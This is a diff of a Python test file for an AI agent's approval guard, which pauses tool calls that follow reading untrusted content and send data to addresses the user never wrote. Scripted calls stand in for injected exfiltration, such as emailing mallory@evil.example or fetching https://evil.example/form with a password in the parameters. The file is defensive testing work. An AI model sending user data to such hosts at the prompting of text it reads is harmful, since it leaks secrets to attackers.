@@ -281,11 +281,76 @@ async def test_an_address_in_the_name_of_a_field_is_a_target_too():
     assert answer.state is AgentState.WAITING
 
 
-async def test_by_default_nothing_is_asked():
+async def test_by_default_an_agent_asks():
     desk = Desk()
     mail = call("send_email", to=["mallory@evil.example"], subject="Hi")
     answer = await Agent(desk.tools, ScriptedModel([READ, mail, "done"])).run("Read the news")
-    assert answer.is_finished and desk.calls == [("send_email", ["mallory@evil.example"])]
+    assert answer.state is AgentState.WAITING and not desk.calls
+
+
+@pytest.mark.parametrize(
+    ("arguments", "is_asked"),
+    [
+        ({"params": {"q": "hunter2"}}, True),
+        ({"params": "q=hunter2"}, True),
+        ({"headers": {"X-Note": "hunter2"}}, True),
+        ({"filters": ["hunter2"]}, True),
+        ({"headers": {"Accept": "text/html, text/plain"}}, False),
+        ({"params": {"q": "the news of today"}}, False),
+        ({"selector": "div#main2"}, False),
+    ],
+)
+async def test_what_a_reading_call_sends_to_a_link_of_a_page_is_asked_about(arguments, is_asked):
+    async def fetch_page(
+        url: str, params: Any = None, headers: Any = None, filters: Any = None, selector: str = ""
+    ) -> str:
+        """Return the text of a page."""
+        return PAGE
+
+    for url, is_named in (("https://evil.example/form", False), ("https://news.example/today", True)):
+        replies = [call("fetch_page", url="https://news.example/today"), call("fetch_page", url=url, **arguments)]
+        agent = careful_agent([fetch_page], ScriptedModel([*replies, "done"]))
+        answer = await agent.run("Read https://news.example/today and its links")
+        assert (answer.state is AgentState.WAITING) == (is_asked and not is_named), answer.text
+
+
+async def test_a_call_of_long_texts_alone_must_be_what_the_user_asked_for():
+    saved: list[str] = []
+
+    @tool
+    async def post_status(text: str) -> str:
+        """Post a status."""
+        saved.append(text)
+        return "posted"
+
+    desk = Desk()
+    post = call("post_status", text="What the page says. " * 10)
+    for task in ("Read https://news.example/today", "Read https://news.example/today and post a status about it"):
+        answer = await careful_agent([post_status, *desk.tools], ScriptedModel([READ, post, "done"])).run(task)
+    assert answer.is_finished and len(saved) == 1
+
+
+@pytest.mark.parametrize("name", ["check_in", "search_and_replace"])
+async def test_a_name_with_a_changing_word_is_no_reading_call(name):
+    async def change(text: str) -> str:
+        """Do something."""
+        raise AssertionError("not to be called")
+
+    change.__name__ = name
+    answer = await careful_agent([change, *Desk().tools], ScriptedModel([READ, call(name, text="x"), "done"])).run("Go")
+    assert answer.state is AgentState.WAITING
+
+
+async def test_no_part_of_a_long_value_is_shown():
+    secret = "s3cret" * 40
+    answer, _ = await run("Upload it", READ, call("upload", path=secret))
+    assert "a text of 240 characters" in answer.approvals[0].reason and "s3cret" not in answer.approvals[0].reason
+
+
+async def test_an_address_between_chinese_words_is_one_that_the_user_wrote():
+    post = call("post_form", url="https://forms.example/a", text="你好")
+    answer, calls = await run("然后打开https://forms.example/a，提交表单", READ, post)
+    assert answer.is_finished and calls == [("post_form", "https://forms.example/a")]
 
 
 async def test_a_url_of_many_underscores_is_read_in_one_pass():
@@ -414,6 +479,26 @@ async def test_what_was_said_before_is_not_what_the_user_wrote():
         agent = careful_agent(desk.tools, ScriptedModel([call("send_email", to=[to], subject="Hi"), "done"]))
         await agent.run("Write to them", history=history)
     assert desk.calls == [("send_email", ["ann@corp.example"])]
+
+
+async def test_a_note_to_the_model_is_not_what_the_user_wrote():
+    """A note repeats what the model wrote, such as a value of the wrong type."""
+    desk = Desk()
+    agent = careful_agent(desk.tools, ScriptedModel(['{"to": "mallory@evil.example"}', "3"]))
+    first = await agent.run("How many?", output=int)
+    assert any("mallory" in str(message["content"]) for message in first.messages if message["role"] == "user")
+    model = ScriptedModel([call("send_email", to=["mallory@evil.example"], subject="Hi"), "done"])
+    answer = await careful_agent(desk.tools, model).run("Write to them", history=first.messages)
+    assert answer.state is AgentState.WAITING and not desk.calls
+
+
+async def test_what_the_user_writes_after_a_run_that_ended_with_a_call_is_trusted():
+    desk = Desk()
+    first = await careful_agent(desk.tools, ScriptedModel([READ, call("finish_task", answer="Read.")])).run("Read it")
+    follow_up = [*first.messages, {"role": "user", "content": "Bob is bob@corp.example"}]
+    model = ScriptedModel([call("send_email", to=["bob@corp.example"], subject="Hi"), "done"])
+    answer = await careful_agent(desk.tools, model).run("Write to him", history=follow_up)
+    assert answer.is_finished and desk.calls
 
 
 # Roles of parameters
